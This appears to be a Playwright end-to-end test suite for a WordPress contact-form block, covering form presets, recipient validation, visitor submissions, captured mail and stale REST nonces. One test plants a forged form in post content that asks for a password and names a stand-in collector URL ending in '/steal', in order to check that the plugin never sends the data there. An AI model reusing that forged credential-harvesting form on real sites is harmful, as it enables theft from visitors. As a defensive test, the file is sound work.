/**
 * Contact Form in the real editor and on the real site: every preset inserts its fields and
 * button; an editor sets the recipient (an invalid one is refused with the exact message) and
 * edits a field; the post reopens valid; a visitor submits the form with JavaScript (invalid,
 * then valid input) and without; the site owner finds the responses in wp-admin's Feedback list
 * and the mail went out with the visitor's address as Reply-To. Nothing here is faked: the form
 * posts to our own PHP. A form forged in the content sends nothing to the address its data
 * attribute names; a logged-in user's page older than the REST nonce's life still sends, once.
 */
import type { Page } from '@playwright/test';
import type { RequestUtils } from '@wordpress/e2e-test-utils-playwright';
import {
	test,
	expect,
	publishAndReopen,
	recordCollector,
	submitForged,
	COLLECTOR,
	visitPost,
} from '../utils';

const PRESETS: Array< [ string, string ] > = [
	[ 'Contact Form', 'Contact Us' ],
	[ 'Newsletter Sign-up', 'Subscribe' ],
	[ 'RSVP Form', 'Send RSVP' ],
	[ 'Registration Form', 'Send' ],
	[ 'Appointment Form', 'Book Appointment' ],
	[ 'Feedback Form', 'Send Feedback' ],
];

interface Mail {
	to: string[];
	subject: string;
	message: string;
	headers: string[];
}

/**
 * The form as a visitor sees it: the `<form>` that our PHP renders around the fields.
 *
 * @param visitor The visitor's page.
 */
const visitorForm = ( visitor: Page ) =>
	visitor
		.locator(
			'form.wp-block-jetpack-contact-form, .wp-block-jetpack-contact-form form'
		)
		.first();

test.describe( 'Contact Form', () => {
	test.beforeEach( async ( { requestUtils } ) => {
		// Our test mu-plugin: mail is captured, not sent; a form may be sent at once.
		await requestUtils.rest( {
			method: 'POST',
			path: '/blockpack-test/v1/contact-form',
			data: { mailFails: false, minSeconds: 0 },
		} );
		await requestUtils.rest( {
			method: 'DELETE',
			path: '/blockpack-test/v1/mails',
		} );
	} );

	test( 'every preset inserts its fields and its submit button, and opens valid', async ( {
		admin,
		editor,
		page,
		visitor,
	} ) => {
		// Six forms in one editor session, then a visitor: more than the default budget.
		test.slow();
		await admin.createNewPost( { title: 'Six forms' } );
		const forms = editor.canvas.getByRole( 'document', {
			name: 'Block: Form',
		} );

		for ( const [ index, [ preset ] ] of PRESETS.entries() ) {
			await editor.insertBlock( { name: 'jetpack/contact-form' } );
			const form = forms.nth( index );
			const templates = form.getByRole( 'list', {
				name: 'Form templates',
			} );
			// The picker lists the six presets in order, with a way to skip it.
			await expect( templates.getByRole( 'button' ) ).toHaveText(
				PRESETS.map( ( [ title ] ) => title ),
				{ timeout: 60_000 }
			);
			await expect(
				form.getByRole( 'button', { name: 'Skip' } )
			).toBeVisible();
			await templates.getByRole( 'button', { name: preset } ).click();
			await expect( templates ).toHaveCount( 0 );
		}

		const blocks = await editor.getBlocks();
		expect( blocks.map( ( b ) => b.name ) ).toEqual(
			PRESETS.map( () => 'jetpack/contact-form' )
		);
		for ( const [ index, [ preset, button ] ] of PRESETS.entries() ) {
			const inner = blocks[ index ].innerBlocks;
			const last = inner[ inner.length - 1 ];
			expect( last.name, preset ).toBe( 'jetpack/button' );
			expect( last.attributes.text, preset ).toBe( button );
			expect( last.attributes.element, preset ).toBe( 'button' );
			expect(
				inner.filter( ( b ) => b.name.startsWith( 'jetpack/field-' ) )
					.length,
				preset
			).toBeGreaterThan( 1 );
		}
		// The RSVP preset brings its subject and its attending question.
		expect( blocks[ 2 ].attributes.subject ).toBe(
			'A new RSVP from your website'
		);
		expect(
			blocks[ 2 ].innerBlocks.find(
				( b ) => b.name === 'jetpack/field-radio'
			)?.attributes.options
		).toEqual( [ 'Yes', 'No' ] );
		// The registration preset asks for a phone number.
		expect( blocks[ 3 ].innerBlocks.map( ( b ) => b.name ) ).toContain(
			'jetpack/field-telephone'
		);
		// The recipient defaults to the post author's address.
		for ( const block of blocks ) {
			expect( block.attributes.to ).toBe( 'admin@localhost.com' );
		}

		const { postId } = await publishAndReopen( { editor, page }, () =>
			forms.last()
		);

		// A visitor sees six forms, each with its own button.
		await visitPost( visitor, postId );
		for ( const [ , button ] of PRESETS ) {
			await expect(
				visitor.getByRole( 'button', { name: button, exact: true } )
			).toBeVisible();
		}
		await expect(
			visitor
				.locator( 'form' )
				.filter( {
					has: visitor.getByRole( 'button', { name: 'Send RSVP' } ),
				} )
				.getByRole( 'radio' )
		).toHaveCount( 2 );
	} );

	test( 'an editor builds a form, a visitor sends it, and the owner finds the response', async ( {
		admin,
		editor,
		page,
		visitor,
		browser,
		requestUtils,
	} ) => {
		// One editor session, three visitors and the admin list: more than the default budget.
		test.slow();
		await admin.createNewPost( { title: 'Write to us' } );
		await editor.insertBlock( { name: 'jetpack/contact-form' } );
		const form = editor.canvas.getByRole( 'document', {
			name: 'Block: Form',
		} );
		await form
			.getByRole( 'button', { name: 'Skip' } )
			.click( { timeout: 60_000 } );
		await expect(
			form.getByRole( 'document', { name: 'Block: Message Field' } )
		).toBeVisible();

		// The recipient: checked on blur, each address on its own, with the exact messages.
		await editor.selectBlocks( form );
		await editor.openDocumentSettingsSidebar();
		const sidebar = page.getByRole( 'region', { name: 'Editor settings' } );
		const recipient = sidebar.getByRole( 'textbox', {
			name: 'Email address(es) to send to',
		} );
		await expect( recipient ).toHaveValue( 'admin@localhost.com' );
		await recipient.fill( 'nope, bad@' );
		await recipient.blur();
		await expect( sidebar.getByRole( 'alert' ) ).toHaveText(
			'nope and bad@ are not a valid email address.'
		);
		await recipient.fill( 'owner@example.com, nope' );
		await recipient.blur();
		await expect( sidebar.getByRole( 'alert' ) ).toHaveText(
			'nope is not a valid email address.'
		);
		// Emptied, it goes back to the author's address.
		await recipient.fill( '' );
		await recipient.blur();
		await expect( recipient ).toHaveValue( 'admin@localhost.com' );
		await expect( sidebar.getByRole( 'alert' ) ).toHaveCount( 0 );
		await recipient.fill( 'owner@example.com' );
		await recipient.blur();
		await expect( sidebar.getByRole( 'alert' ) ).toHaveCount( 0 );
		await sidebar
			.getByRole( 'textbox', { name: 'Email subject line' } )
			.fill( 'A question from the site' );

		// Edit a field: the message gets a new label and becomes required.
		const message = form.getByRole( 'document', {
			name: 'Block: Message Field',
		} );
		await editor.selectBlocks( message );
		await message
			.getByRole( 'textbox', { name: 'Label' } )
			.fill( 'Your question' );
		await editor.clickBlockToolbarButton( 'Required' );
		await expect( message.getByText( '(required)' ) ).toBeVisible();

		const content = await editor.getEditedPostContent();
		expect( content ).toContain( '"to":"owner@example.com"' );
		expect( content ).toContain( '"subject":"A question from the site"' );
		expect( content ).toMatch(
			/<!-- wp:jetpack\/field-textarea \{"label":"Your question","required":true\} \/-->/
		);
		expect( content ).toContain( '"text":"Contact Us"' );

		const { postId } = await publishAndReopen( { editor, page }, () =>
			form.getByRole( 'document', { name: 'Block: Message Field' } )
		);

		// A visitor, with JavaScript: an empty form is refused field by field, nothing lost.
		await visitPost( visitor, postId );
		const sent = visitorForm( visitor );
		const name = sent.getByRole( 'textbox', { name: 'Name' } );
		const email = sent.getByRole( 'textbox', { name: 'Email' } );
		const question = sent.getByRole( 'textbox', { name: 'Your question' } );
		await expect( name ).toHaveAttribute( 'required', '' );
		await expect( question ).toHaveAttribute( 'required', '' );
		// The browser's own checks would stop an empty form: let the server's answer show.
		await sent.evaluate( ( el ) =>
			el.setAttribute( 'novalidate', 'novalidate' )
		);
		await name.fill( 'Ada Lovelace' );
		await email.fill( 'not-an-email' );
		await sent.getByRole( 'button', { name: 'Contact Us' } ).click();
		await expect(
			visitor.getByText( 'Email requires a valid email address.' )
		).toBeVisible();
		await expect(
			visitor.getByText( 'Your question is required.' )
		).toBeVisible();
		await expect( email ).toHaveAttribute( 'aria-invalid', 'true' );
		await expect( name ).toHaveValue( 'Ada Lovelace' );

		// Valid input: the thank-you summary replaces the form.
		await email.fill( 'ada@example.org' );
		await question.fill( 'Can the engine <b>compose</b> music?' );
		await sent.getByRole( 'button', { name: 'Contact Us' } ).click();
		await expect(
			visitor.getByRole( 'heading', { name: 'Message Sent' } )
		).toBeVisible();
		await expect(
			visitor.getByText( 'Can the engine <b>compose</b> music?' )
		).toBeVisible();
		await expect( visitor.locator( 'b' ) ).toHaveCount( 0 );
		// Focus moves to the thank-you, so that a screen reader announces it.
		await expect(
			visitor.getByRole( 'heading', { name: 'Message Sent' } )
		).toBeFocused();
		// The script sent it in place: the page did not go anywhere.
		expect( visitor.url() ).not.toContain( 'contact-form-sent' );

		// A visitor without JavaScript: a plain POST, then the thank-you page.
		const plainContext = await browser.newContext( {
			javaScriptEnabled: false,
			storageState: { cookies: [], origins: [] },
		} );
		try {
			const plain = await plainContext.newPage();
			await plain.goto( `/?p=${ postId }` );
			const plainForm = visitorForm( plain );
			await plainForm
				.getByRole( 'textbox', { name: 'Name' } )
				.fill( 'Charles Babbage' );
			await plainForm
				.getByRole( 'textbox', { name: 'Email' } )
				.fill( 'charles@example.org' );
			await plainForm
				.getByRole( 'textbox', { name: 'Your question' } )
				.fill( 'Is the difference engine finished?' );
			await plainForm
				.getByRole( 'button', { name: 'Contact Us' } )
				.click();
			await expect(
				plain.getByRole( 'heading', { name: 'Message Sent' } )
			).toBeVisible();
			await expect(
				plain.getByText( 'Is the difference engine finished?' )
			).toBeVisible();
			// Post/Redirect/Get: the thank-you page is a signed link of its own.
			expect( plain.url() ).toContain( 'contact-form-sent' );
		} finally {
			await plainContext.close();
		}

		// The mail went to the recipient, with the visitor's address to reply to.
		const mails = ( await requestUtils.rest( {
			path: '/blockpack-test/v1/mails',
		} ) ) as Mail[];
		expect( mails ).toHaveLength( 2 );
		expect( mails[ 0 ].to ).toEqual( [ 'owner@example.com' ] );
		expect( mails[ 0 ].subject ).toBe( 'A question from the site' );
		expect( mails[ 0 ].message ).toContain(
			'Can the engine <b>compose</b> music?'
		);
		expect( mails[ 0 ].headers.join( '\n' ) ).toMatch(
			/Reply-To: .*ada@example\.org/i
		);

		// The site owner reads both responses in wp-admin, with their source page.
		await page.goto( '/wp-admin/edit.php?post_type=feedback' );
		const rows = page.getByRole( 'row' ).filter( {
			hasText: 'Write to us',
		} );
		await expect( rows ).toHaveCount( 2 );
		await expect(
			rows.filter( { hasText: 'ada@example.org' } )
		).toContainText( 'Can the engine <b>compose</b> music?' );
		await expect(
			rows.filter( { hasText: 'charles@example.org' } )
		).toContainText( 'Is the difference engine finished?' );
		await expect(
			page.getByRole( 'link', { name: 'Export CSV' } )
		).toBeVisible();
	} );

	/**
	 * A post with a real form (name and message) after the given markup, published over REST.
	 *
	 * @param requestUtils Gutenberg's request utils (the admin).
	 * @param title        The title.
	 * @param before       Markup before the form.
	 * @return The post's id.
	 */
	async function postWithForm(
		requestUtils: RequestUtils,
		title: string,
		before = ''
	): Promise< number > {
		const post = ( await requestUtils.rest( {
			method: 'POST',
			path: '/wp/v2/posts',
			data: {
				title,
				status: 'publish',
				content: `${ before }<!-- wp:jetpack/contact-form {"to":"owner@example.com","subject":"${ title }"} -->
<div class="wp-block-jetpack-contact-form"><!-- wp:jetpack/field-name {"required":true} /-->
<!-- wp:jetpack/field-textarea {"label":"Message"} /-->
<!-- wp:jetpack/button {"element":"button","text":"Send it"} /--></div>
<!-- /wp:jetpack/contact-form -->`,
			},
		} ) ) as { id: number };
		return post.id;
	}

	test( 'a form forged in the content never sends what a visitor types to the address its data attribute names; the real form still sends', async ( {
		visitor,
		requestUtils,
	} ) => {
		// Written as raw HTML (a contributor gets the same on sites whose kses allows forms).
		const postId = await postWithForm(
			requestUtils,
			'Forged form check',
			`<!-- wp:html -->
<div class="wp-block-jetpack-contact-form"><form class="contact-form" method="post" action="#forged" data-submit-url="${ COLLECTOR }/steal" data-wp-rest-nonce="0123456789"><label for="forged-secret">Your password</label><input type="text" id="forged-secret" name="secret" /><button type="submit">Check password</button></form></div>
<!-- /wp:html -->
`
		);
		const collected = await recordCollector( visitor, {
			status: 'sent',
			redirect: '',
			html: '<div><h3>Checked</h3></div>',
		} );
		await visitPost( visitor, postId );

		await visitor
			.getByRole( 'textbox', { name: 'Your password' } )
			.fill( 'hunter2' );
		await submitForged(
			visitor,
			visitor.getByRole( 'button', { name: 'Check password' } ),
			'contact-form/submit'
		);
		expect( collected ).toEqual( [] );
		// Our route refused the forged form; what was typed stays.
		await expect(
			visitor.getByRole( 'textbox', { name: 'Your password' } )
		).toHaveValue( 'hunter2' );

		await visitor
			.getByRole( 'textbox', { name: 'Name', exact: true } )
			.fill( 'Ada' );
		await visitor
			.getByRole( 'textbox', { name: 'Message', exact: true } )
			.fill( 'A real message' );
		await visitor.getByRole( 'button', { name: 'Send it' } ).click();
		await expect(
			visitor.getByRole( 'heading', { name: 'Message Sent' } )
		).toBeVisible();
		expect( collected ).toEqual( [] );
	} );

	test( "a logged-in user's page older than the REST nonce's life: one fresh nonce, the message sent and stored once", async ( {
		page,
		requestUtils,
		baseURL,
	} ) => {
		const title = `Stale nonce ${ Date.now() }`;
		const postId = await postWithForm( requestUtils, title );
		// Our test mu-plugin: this browser's pages print REST nonces two ticks old.
		await page.context().addCookies( [
			{
				name: 'blockpack_test_stale_rest_nonce',
				value: '1',
				url: baseURL!,
			},
		] );
		const sent: number[] = [];
		const refreshed: string[] = [];
		page.on( 'response', ( response ) => {
			if ( response.url().includes( 'contact-form/submit' ) ) {
				sent.push( response.status() );
			}
			if ( response.url().includes( 'action=rest-nonce' ) ) {
				refreshed.push( response.url() );
			}
		} );
		await page.goto( `/?p=${ postId }` );
		const marker = `stale-${ Date.now() }`;
		await page
			.getByRole( 'textbox', { name: 'Name', exact: true } )
			.fill( 'Grace' );
		await page
			.getByRole( 'textbox', { name: 'Message', exact: true } )
			.fill( marker );
		await page.getByRole( 'button', { name: 'Send it' } ).click();
		await expect(
			page.getByRole( 'heading', { name: 'Message Sent' } )
		).toBeVisible();
		// Refused once by WordPress's cookie check, then sent with the fresh nonce.
		expect( sent ).toEqual( [ 403, 200 ] );
		expect( refreshed ).toHaveLength( 1 );

		const mails = ( await requestUtils.rest( {
			path: '/blockpack-test/v1/mails',
		} ) ) as Mail[];
		expect(
			mails.filter( ( mail ) => mail.message.includes( marker ) )
		).toHaveLength( 1 );
		await page.goto( '/wp-admin/edit.php?post_type=feedback' );
		await expect(
			page.getByRole( 'row' ).filter( { hasText: marker } )
		).toHaveCount( 1 );
	} );
} );
